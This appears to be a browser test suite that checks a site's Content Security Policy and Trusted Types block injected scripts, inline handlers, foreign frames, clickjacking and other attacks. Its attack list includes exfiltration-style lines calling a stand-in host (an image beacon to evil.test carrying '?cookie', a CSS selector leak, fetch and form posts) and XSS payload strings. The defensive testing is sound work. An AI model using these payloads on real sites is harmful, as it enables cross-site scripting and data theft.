import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { launchBrowser, openWindow, SITE } from "../support/browser.ts";
import { expectFault, takeFaults } from "../support/watch.ts";

/** What the policy of a page prevents (decision 18), and that a violation fails the test in which it happens. */

let browser: Browser;
let page: Page;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());
type Attack = readonly [what: string, attack: () => unknown, refused: string];

/** Each attack assumes that somebody can write into the page, or can make one of our scripts write into it. */
const ATTACKS: readonly Attack[] = [
  [
    "a script in the page",
    () => {
      const script = document.createElement("script");
      script.append("window.isPwned = true");
      document.body.append(script);
    },
    "require-trusted-types-for trusted-types-sink",
  ],
  [
    "a handler in an attribute",
    () => document.body.setAttribute("onclick", "isPwned = true"),
    "require-trusted-types-for trusted-types-sink",
  ],
  [
    "HTML made of text",
    () => {
      document.body.innerHTML = "<b>no</b>";
    },
    "require-trusted-types-for trusted-types-sink",
  ],
  ["code made of text", () => setTimeout("isPwned = true"), "require-trusted-types-for trusted-types-sink"],
  [
    "a Trusted Types policy of its own",
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy("dompurify", {}),
    "trusted-types trusted-types-policy",
  ],
  [
    "a frame with a script",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.test/";
      document.body.append(frame);
    },
    "frame-src https://evil.test",
  ],
  [
    "a style element",
    () => {
      const style = document.createElement("style");
      style.append("input[value^=a] { background: url(//evil.test/a) }");
      document.head.append(style);
    },
    "style-src-elem inline",
  ],
  [
    "a picture that carries something away",
    () => {
      new Image().src = "https://evil.test/?cookie";
    },
    "img-src https://evil.test/?cookie",
  ],
  [
    "a picture out of another bucket of the same service",
    () => {
      new Image().src = "https://firebasestorage.googleapis.com/v0/b/evil.appspot.com/o/x";
    },
    "img-src https://firebasestorage.googleapis.com/v0/b/evil.appspot.com/o/x",
  ],
  [
    "a call elsewhere",
    () => void fetch("https://evil.test/").catch(() => undefined),
    "connect-src https://evil.test/",
  ],
  [
    "a form that is sent elsewhere",
    () => {
      const form = document.createElement("form");
      form.action = "https://evil.test/";
      document.body.append(form);
      form.submit();
    },
    "form-action https://evil.test/?",
  ],
  [
    "another base of every address",
    () => {
      const base = document.createElement("base");
      base.href = "https://evil.test/";
      document.head.append(base);
    },
    "base-uri https://evil.test/",
  ],
];

describe("within a page", () => {
  beforeAll(async () => {
    ({ page } = await openWindow(browser));
    await page.goto(`${SITE}/terminos`); // one for all attacks: what is refused leaves nothing behind
  });
  afterAll(() => page.context().close());

  test.each(ATTACKS)("%s is refused, and seen", async (_what, attack, refused) => {
    takeFaults();
    await page.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        seen.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    await page.evaluate(attack).catch(() => undefined); // Trusted Types throw
    const seen = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    await expect.poll(seen).toContain(refused);
    expect(await page.evaluate(() => "isPwned" in window)).toBe(false);
    // the fault is unexpected: had this test not taken it, the test would fail
    expect(takeFaults().unexpected).not.toEqual([]);
  });
});

describe("from outside", () => {
  beforeEach(async () => {
    ({ page } = await openWindow(browser));
  });
  afterEach(() => page.context().close());

  /** Serves pages with another policy, or with other HTML. */
  const tamper = (change: (policy: string, html: string) => { policy: string; html: string }) =>
    page.route("**/*", async (route) => {
      if (route.request().resourceType() !== "document") return route.fallback();
      const response = await route.fetch();
      const headers = response.headers();
      const { policy, html } = change(headers["content-security-policy"] ?? "", await response.text());
      return route.fulfill({
        response,
        body: html,
        headers: { ...headers, "content-security-policy": policy },
      });
    });

  test("what somebody has got into the HTML itself does nothing", async () => {
    const written =
      "<script>isPwned = 1</script><script src=https://evil.test/x.js></script><b onfocus='isPwned = 1' autofocus tabindex=0>x</b>" +
      "<script src='data:text/javascript,isPwned = 1'></script><object data=https://evil.test/></object><style>b{color:red}</style>";
    await tamper((policy, html) => ({ policy, html: html.replace("</body>", `${written}</body>`) }));
    await page.goto(`${SITE}/terminos`);
    expect(await page.evaluate(() => "isPwned" in window)).toBe(false);
    const refused = takeFaults().unexpected.filter((it) => /Content Security Policy|blocked/i.test(it));
    expect(refused.length).toBeGreaterThanOrEqual(6);
  });

  test("a policy that is made too strict fails whatever screen needs more", async () => {
    await tamper((policy, html) => {
      const strict = policy.replace(/img-src [^;]*/, "img-src 'self'");
      expect(strict).not.toBe(policy);
      return { policy: strict, html };
    });
    await page.goto(`${SITE}/eventos/rumba-en-la-loma`);
    await expect
      .poll(() => takeFaults().unexpected.join("\n"))
      .toMatch(/Content Security Policy directive: "img-src 'self'"/);
  });

  test("a page that the server drew keeps to its policy before any script has run", async () => {
    const context = await browser.newContext({ javaScriptEnabled: false, serviceWorkers: "block" });
    const still = await context.newPage();
    await still.goto(`${SITE}/eventos/rumba-en-la-loma`);
    await still.getByRole("heading", { level: 1 }).waitFor();
    expect(takeFaults().unexpected).toEqual([]);
    await context.close();
  });

  test("nobody may show a page within their own", async () => {
    await page.route("https://evil.test/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${SITE}/ingresar"></iframe>` }),
    );
    expectFault(/https:\/\/evil\.test\//, /frame-ancestors|X-Frame-Options/);
    // not openPage's own goto, which waits for a page of ours
    await page.evaluate(() => {
      location.href = "https://evil.test/";
    });
    await page.waitForURL("https://evil.test/");
    const frame = page.frames().find((it) => it !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  });
});
